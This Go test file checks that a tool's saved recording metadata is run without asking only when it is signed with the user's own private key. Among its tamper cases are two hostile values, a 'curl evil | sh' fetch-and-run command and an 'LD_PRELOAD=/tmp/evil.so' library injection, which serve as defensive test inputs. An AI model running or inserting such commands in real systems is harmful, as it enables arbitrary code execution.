package app

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/highwater-go/highwater/internal/record/recording"
	"github.com/highwater-go/highwater/internal/words/sample"
)

// What try would run of a recording is the user's own only as the user has written it.
func TestOnlyWhatThisUserHasWrittenIsRunUnasked(t *testing.T) {
	state := t.TempDir()
	t.Setenv("XDG_STATE_HOME", state)
	made := func() *recording.Meta {
		return &recording.Meta{Command: []string{"./server", "-v"}, Limit: sample.Some(sample.Bytes(64 << 20)),
			More: map[string]string{metaLoad: "./load.sh", metaDir: "/srv", metaSettings: "GOGC=50"}}
	}
	code, err := ownCode(made(), true)
	if err != nil {
		t.Fatal(err)
	}
	own := func() *recording.Meta {
		m := made()
		m.More[metaOwn] = code
		return m
	}
	if !isOwn(own()) {
		t.Error("what was written is not known again")
	}
	for name, change := range map[string]func(m *recording.Meta){
		"the command":       func(m *recording.Meta) { m.Command = []string{"./server -v"} },
		"the load":          func(m *recording.Meta) { m.More[metaLoad] = "curl evil | sh" },
		"the place":         func(m *recording.Meta) { m.More[metaDir] = "/tmp" },
		"the settings":      func(m *recording.Meta) { m.More[metaSettings] = "LD_PRELOAD=/tmp/evil.so" },
		"the code":          func(m *recording.Meta) { delete(m.More, metaOwn) },
		"the code, emptied": func(m *recording.Meta) { m.More[metaOwn] = "" },
	} {
		m := own()
		if change(m); isOwn(m) {
			t.Errorf("%s was changed, and it is run", name)
		}
	}
	path := filepath.Join(state, "highwater", "own.key")
	if info, err := os.Stat(path); err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("%v, %v", info, err)
	}
	if err := os.Chmod(path, 0o644); err != nil {
		t.Fatal(err)
	}
	if isOwn(own()) {
		t.Error("everybody has the key, and it is run")
	}
	if err := os.Chmod(path, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(path, 0); err != nil {
		t.Fatal(err)
	}
	if isOwn(own()) {
		t.Error("the key is empty, and it is run")
	}
	t.Setenv("XDG_STATE_HOME", t.TempDir())
	if isOwn(own()) {
		t.Error("another user runs it")
	}
}
